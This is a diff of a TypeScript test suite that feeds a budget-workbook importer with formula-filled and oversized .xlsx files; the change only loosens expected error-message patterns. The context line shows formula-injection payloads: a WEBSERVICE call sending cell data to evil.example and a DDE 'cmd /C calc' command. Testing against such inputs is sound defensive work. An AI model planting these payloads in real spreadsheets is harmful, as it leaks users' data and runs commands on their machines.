@@ -60,7 +60,7 @@ const PAYLOADS = ['WEBSERVICE("http://evil.example/?"&amp;A1)', "cmd|' /C calc'!
 const formulas: Category = {
   name: 'formulas everywhere', modest: 2,
   cases: (base) => [[1000, 13], [20_000, 51], [3000, 13], [100, 13], [10, 5]].flatMap(([r, c]) => PAYLOADS.map((f, k) => ({
-    name: `formulas-${r}x${c}-${k}.xlsx`, expect: /not a Plan Editor budget workbook|more than 1,000,000 cells|would take/,
+    name: `formulas-${r}x${c}-${k}.xlsx`, expect: /not a Plan Editor budget workbook|more than [\d,]+ cells|would take/,
     build: () => {
       const xml = sheetXml(rows(r, c, (row, col) => `<c r="${colName(col)}${row}"><f>${f}</f></c>`));
       const targets = r * c * SHEETS.length > 1_000_000 ? [SHEET] : SHEETS;
@@ -81,7 +81,7 @@ const million: Category = {
       ['50-sheets-of-20000', () => writeZip([...base.parts, ...extraSheets()]).buf],
       ['strings-and-rows', () => zip(base, SHEET, sheetXml(rows(1_000_000, 1, (r) => `<c r="A${r}" t="s"><v>${r % 50}</v></c>`)))],
     ];
-    return make.map(([name, build]) => ({ name: `million-${name}.xlsx`, expect: /more than 20,000 rows|numbered beyond|beyond row|more than 1,000,000 cells|compressed \d+ times/, build }));
+    return make.map(([name, build]) => ({ name: `million-${name}.xlsx`, expect: /more than 20,000 rows|numbered beyond|beyond row|more than [\d,]+ cells|compressed \d+ times/, build }));
   },
 };
 
